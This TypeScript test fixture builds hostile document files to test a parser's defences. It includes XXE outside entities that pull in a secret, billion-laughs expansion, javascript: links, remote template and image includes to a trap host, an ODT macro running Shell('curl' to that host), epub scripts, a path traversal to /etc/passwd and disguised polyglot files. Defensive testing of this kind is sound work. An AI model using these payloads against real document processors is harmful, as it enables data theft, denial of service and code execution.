import {
  billionLaughs,
  docx,
  docxLinks,
  epub,
  odt,
  onePage,
  outsideEntity,
  wordRun,
  zip,
} from './hostile-documents'
import { type HostileFile, text, refused, RUN } from './hostile-file'

export const documents = (trap: string, secret: string): HostileFile[] => [
  refused(
    'entity.docx',
    'an entity from elsewhere',
    docx(wordRun('Words of a Word entity. &out;'), {}, outsideEntity(secret)),
  ),
  refused(
    'laughs.docx',
    'a thousand million words out of a hundred',
    docx(wordRun('Words of Word laughs. &l10;'), {}, billionLaughs),
  ),
  text(
    'template.docx',
    'a template, a picture and an object from elsewhere',
    docx(
      `${wordRun('Words of a template.')}<w:p><w:hyperlink r:id="hyperlink"><w:r><w:t>link</w:t></w:r></w:hyperlink><w:r><w:instrText>INCLUDEPICTURE "${trap}/w.png"</w:instrText></w:r></w:p>`,
      docxLinks(`${trap}/template.dotm`),
    ),
  ),
  text(
    'script link.docx',
    'a link that is a script',
    docx(
      `${wordRun('Words of a script link.')}<w:p><w:hyperlink r:id="hyperlink"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>`,
      docxLinks(`javascript:${RUN}`),
    ),
  ),
  refused(
    'tables.docx',
    'thousands of tables in each other',
    docx('<w:tbl><w:tr><w:tc>'.repeat(5000) + wordRun('deep') + '</w:tc></w:tr></w:tbl>'.repeat(5000)),
  ),
  text(
    'entity.odt',
    'an entity from elsewhere',
    odt('<text:p>Words of an ODT entity. &out;</text:p>', {}, outsideEntity(secret)),
  ),
  text(
    'laughs.odt',
    'a thousand million words out of a hundred',
    odt('<text:p>Words of ODT laughs. &l10;</text:p>', {}, billionLaughs),
  ),
  text(
    'links.odt',
    'links that are scripts, and a picture from elsewhere',
    odt(
      `<text:p>Words of ODT links. <text:a xlink:href="javascript:${RUN}">a</text:a><draw:image xlink:href="${trap}/o.png"/></text:p>`,
      { 'Basic/Standard/Module1.xml': `<script>Shell("curl ${trap}")</script>` },
    ),
  ),
  text(
    'depth.odt',
    'thousands of parts in each other',
    odt(
      '<text:p>Top.</text:p>' +
        '<text:section>'.repeat(5000) +
        '<text:p>deep</text:p>' +
        '</text:section>'.repeat(5000),
    ),
  ),
  text(
    'spaces.odt',
    'a thousand million spaces',
    odt('<text:p>Words of spaces.<text:s text:c="999999999"/>end</text:p>'),
  ),
  text(
    'entity.epub',
    'an entity from elsewhere',
    epub('<p>Words of a book entity. &out;</p>', {}, outsideEntity(secret)),
  ),
  text(
    'laughs.epub',
    'a thousand million words out of a hundred',
    epub('<p>Words of book laughs. &l10;</p>', {}, billionLaughs),
  ),
  text(
    'scripts.epub',
    'a book with scripts and letters from elsewhere',
    epub(
      `<p>Words of a book with scripts.</p><script>${RUN}</script><script src="${trap}/b.js"></script><iframe src="${trap}/b"></iframe><img src="${trap}/b.png" onerror="${RUN}"/><style>@font-face{src:url(${trap}/b.woff)}</style>`,
    ),
  ),
  refused(
    'places.epub',
    'a book whose chapters lie outside of it',
    epub('<p>x</p>', {
      'b.opf': `<package><manifest><item id="a" href="../../../../etc/passwd"/><item id="b" href="${trap}/chapter"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>`,
    }),
  ),
]

export const richTexts = (trap: string): HostileFile[] => [
  text(
    'groups.rtf',
    'a hundred thousand groups in each other',
    `{\\rtf1 Words of groups. ${'{'.repeat(100_000)}`,
  ),
  text(
    'fields.rtf',
    'pictures and objects from elsewhere',
    `{\\rtf1 Words of fields. {\\field{\\*\\fldinst INCLUDEPICTURE "${trap}/r.png"}{\\fldrslt shown}}{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}{\\*\\template ${trap}/r.dotm}}`,
  ),
  refused('binary.rtf', 'more bytes than there are', '{\\rtf1 Words of binary. {\\pict\\bin2147483647 x}'),
  text(
    'letters.rtf',
    'characters that are none',
    '{\\rtf1\\uc0 Words of letters. \\u-99999999 \\u55357 \\u999999999999 end.}',
  ),
]

export const disguises = (): HostileFile[] => [
  refused(
    'program.txt',
    'a program that says it is text',
    Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4000)]),
  ),
  refused('words.pdf', 'a page that says it is a PDF', `<script>${RUN}</script>`),
  refused('book.docx', 'a PDF that says it is a Word document', onePage('Disguised.')),
  refused('parts.odt', 'a Word document that says it is another', docx(wordRun('Disguised.'))),
  refused('archive.md', 'an archive that says it is Markdown', zip({ a: Buffer.alloc(4000, 7) })),
  refused(
    'drawing.svg',
    'a drawing with a script',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  ),
  text(
    'both.pdf',
    'a PDF that is an archive too',
    Buffer.concat([onePage('Words of both.'), zip({ 'word/document.xml': '<a/>' })]),
  ),
  text(
    'both.html',
    'a picture that is a script and a page',
    `GIF89a/*<title>Page both</title><p>Words of a picture.</p>*/=1;${RUN}`,
  ),
]
